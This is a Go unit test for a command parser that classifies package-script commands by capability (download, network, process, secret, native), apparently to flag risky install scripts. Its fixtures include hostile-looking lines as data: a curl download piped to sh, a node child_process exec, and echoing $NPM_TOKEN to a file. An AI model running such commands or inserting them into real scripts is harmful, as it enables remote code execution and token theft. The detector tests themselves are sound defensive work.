package code

import (
	"strings"
	"testing"
)

func TestCommand(t *testing.T) {
	for _, c := range []struct{ text, programs, files, scripts, uses string }{
		{"node setup.mjs", "node", "setup.mjs", "", ""},
		{"node ./a.js && node -r ./hook.js b.js --c d", "node node", "./a.js ./hook.js b.js", "", ""},
		{"NODE_ENV=x cross-env A=b node a", "node", "a", "", ""},
		{"bun run index.js", "bun", "index.js", "", ""},
		{"npm run build && yarn lint", "npm yarn", "", "build lint", ""},
		{"curl -s https://x.invalid/i | sh", "curl sh", "", "", "download:curl - network:curl download:| sh"},
		{`node -e "require('child_process').exec('id')"`, "node", "", "", "process:child_process process:child_process.exec"},
		{`sh -c "node deep.js; sh -c 'python3 deeper.py'"`, "sh node sh python3", "deep.js deeper.py", "", "process:sh -c process:sh -c process:sh -c"},
		{"./install.sh", "install.sh", "./install.sh", "", ""},
		{"node-gyp rebuild", "node-gyp", "", "", "native:node-gyp"},
		{"echo $NPM_TOKEN > x; (sudo -n true)", "echo -n", "", "", "secret:$NPM_TOKEN process:sudo"},
		{"npx husky", "husky", "", "", "download:npx"},
		{"tsc -p . # node comment.js", "tsc", "", "", ""},
		{"", "", "", "", ""},
	} {
		line := Command(c.text)
		var uses []string
		for _, u := range line.Profile.Uses {
			uses = append(uses, string(u.Capability)+":"+u.What)
		}
		got := [...]string{strings.Join(line.Programs, " "), strings.Join(line.Files, " "), strings.Join(line.Scripts, " "), strings.Join(uses, " ")}
		if want := [...]string{c.programs, c.files, c.scripts, c.uses}; got != want {
			t.Errorf("%s\n got %q\nwant %q", c.text, got, want)
		}
	}
}

func TestCommandIsBounded(t *testing.T) {
	deep := strings.Repeat(`sh -c "`, 200) + "node x.js"
	if line := Command(deep); len(line.Programs) > maxCommands {
		t.Errorf("%d programs", len(line.Programs))
	}
	line := Command(strings.Repeat("a;", maxCommand))
	if len(line.Programs) != maxCommands || line.Profile.Unreadable == "" {
		t.Errorf("%d programs, %q", len(line.Programs), line.Profile.Unreadable)
	}
}
